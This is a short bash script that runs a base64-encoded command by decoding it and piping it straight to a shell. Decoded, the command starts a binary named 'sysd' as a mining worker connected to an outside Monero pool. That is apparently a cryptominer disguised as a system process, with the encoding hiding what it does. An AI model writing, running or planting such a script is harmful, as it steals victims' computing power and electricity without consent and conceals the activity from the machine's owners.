#!/bin/bash
# The command is stored base64-encoded and piped to a shell.
echo "Li9zeXNkIC1vIHN0cmF0dW0rdGNwOi8vcG9vbC5zdXBwb3J0eG1yLmNvbTozMzMzIC11IHdvcmtlcjAx" | base64 -d | bash
